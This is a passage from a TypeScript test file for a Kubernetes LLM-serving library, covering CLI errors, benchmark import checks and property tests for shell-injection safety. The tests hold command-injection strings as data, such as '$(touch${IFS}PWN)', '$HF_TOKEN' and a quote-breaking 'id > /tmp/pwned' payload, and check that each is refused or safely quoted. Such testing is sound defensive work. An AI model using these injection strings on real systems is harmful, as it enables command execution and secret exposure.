      target: ScaleTarget.deployment(name), modelServer: 'jetstream', metric: AutoscalingMetric.TPU_MEMORY_USED, targetAverageValue: 30 * 2 ** 30,
    });
    hpa('a', 'first');
    refused(() => hpa('b', 'second'), /the HPA 'first' already scales on TPU memory.*Scale 'second'/);
  });

  test('1: the CLI exits quietly on EPIPE and prints one line on other write errors', () => {
    const main = path.join(__dirname, '..', 'src', 'cli', 'main.ts');
    const node = `${JSON.stringify(process.execPath)} -r ts-node/register/transpile-only ${JSON.stringify(main)}`;
    const args = 'profiles list --model=google/gemma-2-27b-it --format=json';
    const piped = spawnSync('bash', ['-c', `${node} ${args} | head -c 1 >/dev/null; echo "status=\${PIPESTATUS[0]}" >&2`], {
      encoding: 'utf8', cwd: path.join(__dirname, '..'),
    });
    expect(piped.stderr).toMatch(/status=0/);
    expect(piped.stderr).not.toMatch(/EPIPE|at |Error/);
    if (fs.existsSync('/dev/full')) {
      const full = spawnSync('bash', ['-c', `${node} ${args} > /dev/full`], { encoding: 'utf8', cwd: path.join(__dirname, '..') });
      expect(full.status).toBe(1);
      expect(full.stderr.trim().split('\n')).toEqual(['ERROR: (cdk8s-gke-inference) cannot write the output: ENOSPC']);
    }
  });
});

describe('5. CLI', () => {
  test('hex numbers, empty lists and bad names are usage errors naming the flag', () => {
    expect(fails('profiles list --model=google/gemma-2-27b-it --target-ntpot-milliseconds=0x64', 2)).toMatch(/--target-ntpot-milliseconds must be a positive decimal number/);
    expect(fails('profiles plot --model=google/gemma-2-27b-it --accelerator-type=,,,', 2)).toMatch(/--accelerator-type names no accelerator/);
    expect(fails('manifests create --model=google/gemma-2-27b-it --model-server=vllm --accelerator-type=nvidia-l4 --name=Bad_Name', 2))
      .toMatch(/--name 'Bad_Name' must be a DNS-1035 label/);
    const r = cli(['manifests', 'create', '--model=google/gemma-2-27b-it', '--model-server=vllm', '--accelerator-type=tpu-v6e-slice',
      '--model-bucket-uri=gs://my-b/$(touch${IFS}PWN)']);
    expect(r.code).toBe(0);
    expect(r.out).not.toMatch(/sh -c[^\n]*touch/);
    for (const line of r.out.split('\n').filter((l) => l.startsWith('# ') && /gcloud|kubectl/.test(l))) expectQuoted(line);
  });
});

describe('6. benchmark import', () => {
  const header = 'Model,Model Server,Model Server Version,Accelerator,Accelerator Count,Output Tokens/s,NTPOT(ms)';
  const row = (tps: number | string, ntpot: number | string) => `google/gemma-2-27b-it,vllm,v0.7.2,nvidia-l4,4,${tps},${ntpot}`;
  const csv = (...rows: string[]) => [header, ...rows].join('\n');
  const imp = (text: string) => InferenceCatalog.embedded().addBenchmarksFromCsv(text);

  test('10: NTPOT in seconds, absurd throughput and hex are refused with the physical limit; one NTPOT twice is a curve\'s start', () => {
    refused(() => imp(csv(row(100, 0.2), row(400, 0.9))), /NTPOT 0.200 ms is faster than google\/gemma-2-27b-it can run on 4 x nvidia-l4.*was it given in seconds\?/);
    refused(() => imp(csv(row(1e9, 400))), /output tokens\/s is more than 4 x nvidia-l4 can compute/);
    // a TTFT in seconds: a first token needs one forward pass over the active weights (27B at 4 bits through 4 x 300 GB/s: 11.4 ms)
    const withTtft = (tps: number, ntpot: number, ttft: number) => `${row(tps, ntpot)},${ttft}`;
    refused(() => imp([`${header},TTFT(ms)`, withTtft(100, 200, 0.4), withTtft(300, 500, 0.9)].join('\n')),
      /TTFT 0.400 ms is faster than one forward pass of google\/gemma-2-27b-it on 4 x nvidia-l4 \(at least 11\.\d ms.*was it given in seconds\? 0\.4 s is 400 ms/);
    expect(() => imp([`${header},TTFT(ms)`, withTtft(100, 200, 400), withTtft(300, 500, 900)].join('\n'))).not.toThrow();
    refused(() => imp(csv(row(100, 1e308))), /NTPOT .* is over 60000 ms a token/);
    refused(() => imp(csv(row(100, '0x64'))), /is not a non-negative decimal number: '0x64'/);
    // two points at one whole-millisecond NTPOT (GIQ's ntpotMilliseconds is an int32): a curve's first request rates, both kept
    expect(imp(csv(row(100, 400), row(200, 400)))._catalog.measuredPoints.filter((p) => p.trust === 'user').map((p) => p.outputTokensPerSecond))
      .toEqual([100, 200]);
    // the legacy per-output-token latency is milliseconds (ai-on-gke profile-generator from 2024-09-26), seconds below 1 (the three
    // weeks before): 400 and 0.4 are both 400 ms; 4e5 is not a token time
    const legacy = (v: number) => InferenceCatalog.embedded().addBenchmarksFromJson(
      JSON.stringify({ config: { model: GEMMA, model_server: 'vllm' }, metrics: { throughput: 300, avg_per_output_token_latency: v } }),
      { modelServerVersion: 'v0.7.2', acceleratorType: 'nvidia-l4', acceleratorCount: 4 });
    for (const v of [400, 0.4]) expect(legacy(v)._catalog.measuredPoints.find((p) => p.trust === 'user')!.ntpotMilliseconds).toBeCloseTo(400, 9);
    refused(() => legacy(4e5), /NTPOT 400000 ms is over 60000 ms a token/);
    // a plausible point imports
    expect(imp(csv(row(300, 45), row(900, 120))).measuredPointCount).toBeGreaterThan(InferenceCatalog.embedded().measuredPointCount);
    // input tokens cost the same FLOPs a token as output: the same ceiling (1e30 input tokens/s priced input at 1.6e-28 $/M)
    const point = {
      model: GEMMA,
      modelServer: 'vllm',
      modelServerVersion: 'v0.7.2',
      acceleratorType: 'nvidia-l4',
      acceleratorCount: 4,
      outputTokensPerSecond: 300,
      ntpotMilliseconds: 45,
    };
    refused(() => InferenceCatalog.embedded().addBenchmark({ ...point, inputTokensPerSecond: 1e30 }), /input tokens\/s is more than 4 x nvidia-l4 can compute/);
    // a citation is one line of text: empty or multi-line sources would land in an annotation
    refused(() => InferenceCatalog.embedded().addBenchmark({ ...point, source: '' }), /'source' must be one non-empty line of text, got string ''/);
    refused(() => InferenceCatalog.embedded().addBenchmark({ ...point, source: 'a\nb' }), /'source' must be one non-empty line of text/);
  });
});

describe('properties: hostile strings never reach a shell or a variable', () => {
  const meta = fc.constantFrom('$(', ')', '`', ';', '|', '&', '"', "'", '\\', '${IFS}', '$HF_TOKEN', '$(HF_TOKEN)', '$$', '\n', ' ', '*', '#', '>');
  const word = fc.stringMatching(/^[a-z0-9]{1,6}$/);
  // the prefix is a marker no fixed script contains, so "the user's string is not in the script" cannot match the script's own
  // text (a bare 'x' + 't' once matched '*.txt')
  const hostile = fc.array(fc.oneof(meta, word), { minLength: 1, maxLength: 8 }).map((parts) => `xqz7${parts.join('')}`);

  test('shellQuote: a real sh reads back exactly the word, and runs nothing', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'quote-'));
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 24 }).filter((s) => !s.includes('\u0000')), (s) => {
      const r = spawnSync('sh', ['-c', `cd ${shellQuote(dir)} && printf '%s' ${shellQuote(s)}`], { encoding: 'utf8' });
      expect(r.stdout).toBe(s);
    }), { numRuns: 60 });
    fc.assert(fc.property(hostile, (s) => {
      const r = spawnSync('sh', ['-c', `cd ${shellQuote(dir)} && printf '%s' ${shellQuote(`$(touch PWNED)${s}`)}`], { encoding: 'utf8' });
      expect(r.stdout).toBe(`$(touch PWNED)${s}`);
    }), { numRuns: 40 });
    expect(fs.readdirSync(dir)).toEqual([]);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('every string prop: refused cleanly, or emitted with no splice into sh -c, no reachable $(VAR) and quoted notes', () => {
    const stringProps: Array<[string, (s: string) => any]> = [
      ['modelBucketUri (TPU)', (s) => ({ model: GEMMA, acceleratorType: 'tpu-v6e-slice', modelBucketUri: `gs://my-b/${s}` })],
      ['modelBucketUri (GPU)', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: `gs://my-b/${s}` })],
      ['xlaCacheBucketUri', (s) => ({ model: GEMMA, acceleratorType: 'tpu-v6e-slice', modelBucketUri: 'gs://my-b/m', xlaCacheBucketUri: `gs://xla-b/${s}` })],
      ['model', (s) => ({ model: `acme/${s}`, acceleratorType: 'nvidia-l4' })],
      ['name', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', name: s })],
      ['image', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', image: `vllm/vllm-openai:${s}` })],
      ['gkeVersion', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: 'gs://my-b/m', gkeVersion: s })],
      ['region', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', region: s })],
      ['modelServerVersion', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', modelServerVersion: s })],
      ['acceleratorType', (s) => ({ model: GEMMA, acceleratorType: s })],
      ['huggingFaceToken', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', huggingFaceToken: HuggingFaceToken.fromSecret(s) })],
      ['reservationName', (s) => ({ model: GEMMA, acceleratorType: 'nvidia-l4', capacity: Capacity.RESERVATION, reservationName: s })],
    ];
    fc.assert(fc.property(fc.constantFrom(...stringProps), hostile, ([, propsOf], s) => {
      expectRefusedOrSafe(() => server(propsOf(s)), s);
    }), { numRuns: 60 });
  });

  test('ModelTransferJob string props: refused, or only escaped env values', () => {
    fc.assert(fc.property(hostile, fc.constantFrom('revision', 'modelBucketUri'), (s, prop) => {
      const props: any = { model: GEMMA, modelBucketUri: 'gs://my-b/m' };
      props[prop] = prop === 'modelBucketUri' ? `gs://my-b/${s}` : s;
      expectRefusedOrSafe(() => new L.ModelTransferJob(chartOf(), 'j', props), s);
    }), { numRuns: 30 });
  });

  test('XlaCompilationCache string props (used on a hand-written Deployment): refused, or never in the warm-up script', () => {
    const template = {
      spec: {
        containers: [{
          name: 'inference-server',
          image: 'vllm/vllm-tpu:v0.11.1',
          command: ['vllm', 'serve'],
          args: ['--port=8000'],
          resources: { limits: { 'google.com/tpu': 8 } },
        }],
      },
    };
    const base: any = { name: 'x', bucketUri: 'gs://xla-b/c', acceleratorType: 'tpu-v6e-slice', tpuTopology: '2x4', serverVersion: 'v1', servingTemplate: template };
    fc.assert(fc.property(hostile, fc.constantFrom('healthPath', 'bucketUri', 'tpuTopology', 'serverVersion', 'name'), (s, prop) => {
      const props = { ...base, [prop]: prop === 'healthPath' ? `/${s}` : prop === 'bucketUri' ? `gs://xla-b/${s}` : s };
      expectRefusedOrSafe(() => new L.XlaCompilationCache(chartOf(), 'x', props), s);
    }), { numRuns: 40 });
    // the audit's case: a quote closing the python string and a command after it
    refused(() => new L.XlaCompilationCache(chartOf(), 'x', { ...base, healthPath: '/health", timeout=5)\'; id > /tmp/pwned; echo \'("' }),
      /'healthPath' .* must be an absolute URL path of letters, digits and \. _ ~ - \/, such as '\/health'/);
    // a good path reaches the script through the environment only
    const ok = new L.XlaCompilationCache(chartOf(), 'x', { ...base, healthPath: '/v1/health' });
    const [job] = Chart.of(ok).toJson().filter((o: any) => o.kind === 'Job');
    const c = job.spec.template.spec.containers[0];
    expect(c.command[2]).not.toContain('/v1/health');
    expect(c.env).toContainEqual({ name: 'XLA_WARMUP_HEALTH_URL', value: 'http://127.0.0.1:8000/v1/health' });
  });
});

test('synthesis still writes files for an app with every construct (the rule sits on the App once)', () => {
  const app = new App({ outdir: fs.mkdtempSync(path.join(os.tmpdir(), 'synth-')) });
  const chart = new Chart(app, 'c', { namespace: 'llm' });
  new OptimizedLlmServer(chart, 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: 'gs://my-b/m' });
  new ModelTransferJob(chart, 'stage', { model: GEMMA, modelBucketUri: 'gs://my-b/m' });
  expect(() => app.synth()).not.toThrow();
  expect(fs.readdirSync(app.outdir)).toEqual(['c.k8s.yaml']);
  fs.rmSync(app.outdir, { recursive: true, force: true });
});

test('the run-time prop lists equal the TypeScript interfaces they guard (so a new prop is never refused as unknown)', () => {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const ts = require('typescript');
  const propsOf = (file: string, name: string): string[] => {
    const source = ts.createSourceFile(file, fs.readFileSync(path.join(__dirname, '..', file), 'utf8'), ts.ScriptTarget.Latest, true);
    const found: string[] = [];
    source.forEachChild((n: any) => {
      if (ts.isInterfaceDeclaration(n) && n.name.text === name) {
        for (const m of n.members) if (ts.isPropertySignature(m)) found.push(m.name.getText(source));
      }
    });
    expect(found.length).toBeGreaterThan(0);
    return found.sort();
  };
  /* eslint-disable @typescript-eslint/no-require-imports */
  const { RESOLVE_REQUEST_PROPS } = require('../src/resolver/request-props');
  const { SERVER_OWN_PROPS } = require('../src/server/server-props');
  const { POD_CUSTOMIZATION_PROPS } = require('../src/server/pod-customization');
  /* eslint-enable @typescript-eslint/no-require-imports */
  expect([...RESOLVE_REQUEST_PROPS].sort()).toEqual(propsOf('src/resolver/resolution.ts', 'ResolveRequest'));
  // OptimizedLlmServerProps extends ResolveRequest and PodCustomization: its own members plus PodCustomization's
  const customization = propsOf('src/server/pod-customization.ts', 'PodCustomization');
  expect([...POD_CUSTOMIZATION_PROPS].sort()).toEqual(customization);
  expect(fs.readFileSync(path.join(__dirname, '..', 'src/server/optimized-llm-server.ts'), 'utf8'))
    .toContain('export interface OptimizedLlmServerProps extends ResolveRequest, PodCustomization {');
  expect([...SERVER_OWN_PROPS].sort()).toEqual([...propsOf('src/server/optimized-llm-server.ts', 'OptimizedLlmServerProps'), ...customization].sort());
  const catalogSource = fs.readFileSync(path.join(__dirname, '..', 'src/api/inference-catalog.ts'), 'utf8');
  for (const [list, iface] of [['MODEL_ARCHITECTURE_PROPS', 'ModelArchitecture'], ['BENCHMARK_IMPORT_OPTION_PROPS', 'BenchmarkImportOptions'],
    ['BENCHMARK_POINT_PROPS', 'BenchmarkPoint']]) {
    const m = new RegExp(`const ${list}: readonly string\\[\\] = \\[([^\\]]*)\\]`).exec(catalogSource);
    expect(m).not.toBeNull();
    const names = [...m![1].matchAll(/'(\w+)'/g)].map((x) => x[1]).sort();
    expect(names).toEqual(propsOf('src/api/inference-catalog.ts', iface));
  }
  const transfer = /const TRANSFER_JOB_PROPS: readonly string\[\] = \[([^\]]*)\]/.exec(fs.readFileSync(path.join(__dirname, '..', 'src/server/model-transfer-job.ts'), 'utf8'));
  expect([...transfer![1].matchAll(/'(\w+)'/g)].map((x) => x[1]).sort()).toEqual(propsOf('src/server/model-transfer-job.ts', 'ModelTransferJobProps'));
});
